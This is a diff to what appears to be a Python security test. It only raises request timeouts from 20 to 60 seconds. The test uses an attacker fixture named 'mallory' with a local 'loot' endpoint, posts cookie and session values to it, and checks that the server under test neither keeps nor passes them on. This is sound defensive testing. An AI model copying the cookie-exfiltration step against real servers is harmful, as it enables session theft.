@@ -67,7 +67,7 @@ def mallory(server: Server) -> Iterator[Attacker]:
 def ask(url: str, method: str = "GET", **headers: str) -> requests.Response:
     with requests.Session() as session:
         session.trust_env = False
-        return session.request(method, url, headers=headers, timeout=20, allow_redirects=False)
+        return session.request(method, url, headers=headers, timeout=60, allow_redirects=False)
 
 
 def hold_nothing(*texts: object) -> None:
@@ -104,7 +104,7 @@ def test_mallorys_server_neither_keeps_them_nor_passes_them_on(server: Server) -
             hold_nothing(answer.text, answer.headers)
         said = f"{COOKIES}; {server.settings.cookie.name}=eyours\nfrom the storage"
         url = mallory.url("127.0.0.1", "loot")
-        requests.post(url, data=said, headers={"Cookie": COOKIES}, timeout=20)
+        requests.post(url, data=said, headers={"Cookie": COOKIES}, timeout=60)
         hold_nothing(mallory.loot, vars(mallory), wire.heard, list(server.exchanges))
         assert mallory.loot == [f"{server.settings.cookie.name}=eyours\nfrom the storage"]
         assert len(wire.heard) >= 2  # Mallory's own account, made for her
